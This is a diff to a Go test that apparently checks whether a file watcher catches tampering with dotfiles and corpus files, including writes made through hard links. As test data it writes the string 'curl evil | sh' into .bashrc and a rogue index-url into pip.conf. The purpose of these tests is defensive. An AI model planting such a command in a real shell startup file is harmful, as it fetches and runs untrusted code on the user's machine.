@@ -79,11 +79,26 @@ func TestUntouched(t *testing.T) {
 				{"planted pip.conf", func() { write("home/.config/pip/pip.conf", "[global]") }, []string{filepath.Join(home, ".config/pip/pip.conf")}},
 				{"edited pip.conf", func() { write("home/.config/pip/pip.conf", "[global]\nindex-url = evil") }, []string{filepath.Join(home, ".config/pip/pip.conf")}},
 				{"a shell's history", func() { write("home/.bash_history", "ls") }, nil},
+				{"linked .bashrc out of HOME", func() { os.Link("home/.bashrc", "bashrc-link") }, nil},
+				{"wrote .bashrc through the link", func() {
+					f, _ := os.OpenFile("bashrc-link", os.O_APPEND|os.O_WRONLY, 0)
+					f.WriteString("curl evil | sh")
+					f.Close()
+				}, []string{filepath.Join(home, ".bashrc")}},
 				{"removed .bashrc", func() { os.Remove("home/.bashrc") }, []string{filepath.Join(home, ".bashrc")}},
 				{"a package build's output", func() { write("corpus/esc/pkg/build/x.o", "x") }, nil},
 				// Only folders of those names are a build's: a file named
 				// like one is the case's like any other.
 				{"planted a file named dist", func() { write("corpus/esc/dist", "x") }, []string{"corpus/esc/dist"}},
+				// A hard link out of the corpus is a path the watcher does
+				// not see: a write through it, in a later run, makes no
+				// event in the corpus.
+				{"linked a case out of the corpus", func() { os.Link("corpus/esc/a.txtar", "outside-link") }, nil},
+				{"wrote through the link", func() {
+					f, _ := os.OpenFile("outside-link", os.O_APPEND|os.O_WRONLY, 0)
+					f.WriteString("through the link")
+					f.Close()
+				}, []string{"corpus/esc/a.txtar"}},
 				{"moved a case in from elsewhere", func() {
 					write("outside.txtar", "x")
 					os.Rename("outside.txtar", "corpus/esc/moved.txtar")
